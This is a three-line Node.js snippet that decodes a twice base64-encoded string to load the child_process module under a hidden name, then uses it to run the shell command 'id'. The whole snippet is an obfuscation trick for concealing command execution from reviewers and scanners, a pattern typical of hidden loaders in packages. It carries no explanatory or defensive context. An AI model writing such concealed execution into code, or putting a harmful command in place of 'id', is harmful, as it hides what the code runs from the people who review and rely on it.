const once = (s) => Buffer.from(s, 'base64').toString();
const m = require(once(once('WTJocGJHUmZjSEp2WTJWemN3PT0=')));
m.exec('id');
